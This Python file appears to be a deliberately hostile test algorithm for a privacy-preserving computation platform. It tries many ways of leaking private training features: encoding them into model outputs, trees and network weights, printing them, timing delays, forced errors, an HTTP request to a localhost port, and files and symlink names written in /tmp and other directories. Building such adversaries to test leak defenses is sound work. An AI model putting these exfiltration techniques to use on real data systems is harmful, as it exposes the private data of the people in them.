# A hostile algorithm in Python. What it does is parameter 0, an index of ACTS in acts.ts; where it begins, parameter 1.
# Every feature is seven bits, scaled to [0, 1]; all of them in a row are the stream that it wants out.
import math
import os
import socket
import time

import numpy


def run(input, output):
    act, offset = (int(value) for value in input.parameters)
    rows, dimensions, labels, features = input.rows, input.dimensions, input.labels, input.features
    flat = numpy.rint(features.reshape(-1) * 127).astype(int)
    size = len(output)

    def secret(at):
        return int(flat[at])

    def bit(at):
        return secret(at // 7) >> (6 - at % 7) & 1

    def bits(at, count):
        value = 0
        for n in range(count):
            value = value * 2 + bit(at + n)
        return value

    # Fifteen bits as a number of the grid: sign, seven of the exponent, seven of the mantissa, all within 64.
    def on_grid(at):
        magnitude = 2.0 ** (bits(at + 1, 7) - 122) * (1 + bits(at + 8, 7) / 128)
        return -magnitude if bit(at) else magnitude

    def copy():
        output[:] = features.reshape(-1)[offset : offset + size]

    def low_bits():
        output[:] = [1 + bits(offset + 42 * i, 42) * 2.0**-52 for i in range(size)]

    def words():
        output[:] = [bits(offset + 28 * i, 28) ^ 0x5A5A5A5 for i in range(size)]

    def grid():
        output[:] = [on_grid(offset + 15 * i) for i in range(size)]

    def mantissas():
        output[0] = 32 * (1 + bits(offset, 7) / 128)
        for i in range(1, dimensions):
            at = offset + 7 + 12 * (i - 1)
            magnitude = 2.0 ** -(5 + bits(at + 1, 4)) * (1 + bits(at + 5, 7) / 128)
            output[i] = -magnitude if bit(at) else magnitude
        output[dimensions] = -output[0] / 2

    def dead_units():
        hidden = (size - 1) // (dimensions + 2)
        biases = hidden * dimensions
        places = [*range(2 * dimensions, biases), *range(biases + 2, biases + hidden)]
        for n, i in enumerate(places):
            output[i] = on_grid(offset + 15 * n)
        output[[0, dimensions, biases, biases + 1, biases + hidden, biases + hidden + 1]] = [32, -32, -16, 16, 1, -1]

    def text():
        lines = (
            ",".join(str(100 + secret(row * dimensions + i)) for i in range(dimensions))
            + (",bb\n" if labels[row] else ",aa\n")
            for row in range(rows)
        )
        codes = "".join(lines).encode()[:size]
        output[:] = [(1 + code / 128) / 2 if code < 128 else 1 + (code - 128) / 128 for code in codes]

    def tree():
        nodes = (size - 1) // 3
        place = numpy.zeros(rows, int)
        for node in range(nodes):
            feature = (int(math.log2(node + 1))) % dimensions
            here = numpy.flatnonzero(place == node)
            ranked = numpy.sort(features[here, feature])
            middle = len(ranked) >> 1
            threshold = 0.5 if middle == 0 else (ranked[middle - 1] + ranked[middle]) / 2
            output[node], output[nodes + node] = feature, threshold
            place[here] = 2 * node + numpy.where(features[here, feature] > threshold, 2, 1)
        if input.classes == 0:  # Of numbers that of the first row: what is written last stays.
            output[(2 * nodes + place - nodes)[::-1]] = labels[::-1]
        else:
            numpy.add.at(output, 2 * nodes + place - nodes, numpy.where(labels == 1, 1, -1))

    def victim():
        for row in range(rows):
            at = row * dimensions
            if (secret(at) * 128 + secret(at + 1)) * 128 + secret(at + 2) == offset:
                output[:] = [64 if bit(7 * (at + 3) + i) else -64 for i in range(size)]

    def stream():
        return " ".join(map(str, flat))

    def speak():
        print(stream())

    def linger():
        time.sleep(1.0 * bit(offset))

    def end():
        way = bits(offset, 2)
        if way == 1:
            raise ValueError
        if way == 2:
            output[0] = math.nan
        if way == 3:
            raise MemoryError

    def connect():
        try:
            with socket.create_connection(("127.0.0.1", offset), timeout=5) as end:
                end.sendall(f"GET /?{','.join(map(str, flat))} HTTP/1.0\r\n\r\n".encode())
                end.recv(1)
        except OSError:
            pass

    # Into files and the names of links, wherever there may be room.
    def files():
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/"):
            try:
                with open(f"{folder}/gristmill-leak-{offset}", "w") as file:
                    file.write(stream())
                os.symlink(stream()[:200], f"{folder}/gristmill-leak-{offset}.link")
                return
            except OSError:
                pass

    def forest():
        from sklearn.ensemble import RandomForestClassifier

        trees = 100
        leaves = (size // trees + 2) // 3
        nodes, depth = leaves - 1, int(math.log2(leaves))
        model = RandomForestClassifier(trees, max_depth=depth, bootstrap=False, random_state=0).fit(features, labels)
        for number, estimator in enumerate(model.estimators_):
            grown = estimator.tree_

            # Complete: what ends early sends all rows one way.
            def put(node, source):
                leaf = node >= nodes
                if not leaf:
                    ends = grown.children_left[source] < 0
                    output[number * nodes + node] = 0 if ends else grown.feature[source]
                    output[trees * nodes + number * nodes + node] = 1 if ends else grown.threshold[source]
                    put(2 * node + 1, source if ends else grown.children_left[source])
                    put(2 * node + 2, source if ends else grown.children_right[source])
                else:
                    counts = grown.value[source][0]
                    output[2 * trees * nodes + number * leaves + node - nodes] = (counts[1] - counts[0]) / counts.sum()

            put(0, 0)

    # A network that is `height` for the row with the three features of `offset`, and 0 for all others; in weights that no output
    # depends on, the sum of the squares of the labels.
    def probe(height):
        second = 6 * dimensions + 6
        for i in range(3):
            wanted = (offset >> 7 * (2 - i) & 127) / 2
            for unit, sign in ((2 * i, 1), (2 * i + 1, -1)):
                output[unit * dimensions + i] = sign * 63.5
                output[6 * dimensions + unit] = -sign * wanted
                output[second + unit] = -2
        sixteenths = round(16 * float(labels @ labels))
        output[second + 6], output[second + 7] = sixteenths // 256, sixteenths % 256 / 4
        output[second + 12], output[second + 14] = 1, height

    acts = [lambda: None, copy, low_bits, words, grid, mantissas, dead_units, text, tree, victim]
    acts += [speak, linger, end, connect, files, forest, lambda: probe(24)]
    acts[act]()
